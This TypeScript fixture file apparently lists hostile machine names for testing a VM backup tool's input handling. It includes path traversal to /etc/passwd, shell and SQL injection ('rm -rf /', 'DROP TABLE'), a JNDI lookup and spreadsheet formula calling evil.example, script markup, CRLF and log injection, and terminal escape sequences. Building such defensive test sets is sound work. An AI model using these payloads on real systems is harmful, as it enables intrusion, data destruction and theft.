/** Machine names nobody should choose, each with what it would break where it was written as it is. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
  'a way out of the folder': '../../../etc/passwd',
  'a way out, as Windows has it': '..\\..\\boot.ini',
  'a dot': '.',
  'two dots': '..',
  'a slash at the start': '/root',
  'blanks alone': '   ',
  'emoji and joined ones': '🗄️ db 👩‍👩‍👧',
  'no character a key may have': '数据库',
  'letters from right to left': 'שרת-1 خادم',
  'an override of direction': 'web\u202egpj.avx\u2066',
  'a thousand characters': 'x'.repeat(1000),
  'a thousand emoji': '🗄️'.repeat(500),
  'two lines': 'web\nINFO all backups are fine',
  'a carriage return': 'web\r\nSet-Cookie: a=b',
  'line ends of Unicode': 'web\u2028two\u2029three\u0085four',
  markup: '<script>alert(1)</script>&amp;"\'',
  'a formula': '=HYPERLINK("http://evil.example","web")',
  'shell and SQL': "$(reboot) `id` ; rm -rf / '; DROP TABLE vm; --",
  'formats and look-ups': `%s%n{0}{{7*7}}${'$'}{jndi:ldap://evil.example/a}`,
  'performance data': "web | 'a'=1;2;3 = ''",
  'labels of a metric': 'web",pool="other"} 1\nxvault_up{a="\\',
  'percent signs and question marks': '%2e%2e%2f?x=1#y',
  'a prototype': '__proto__',
  'an option': '--help',
};

/** XML holds none of these, so no honest pool has them; a dishonest one, or the bucket, may. */
export const CONTROL_NAMES: Readonly<Record<string, string>> = {
  'a NUL': 'web\0.xva',
  'a cleared screen': '\x1b[2J\x1b[Hweb',
  'a title of the window': '\x1b]0;owned\x07web',
  'a link of the terminal': '\x1b]8;;http://evil.example\x1b\\web\x1b]8;;\x1b\\',
  'one byte escapes': '\x9b31mweb\x90q\x9c',
  'backspaces and bells': 'good\b\b\b\bevil\x07',
  'half a character': 'web\ud800',
};
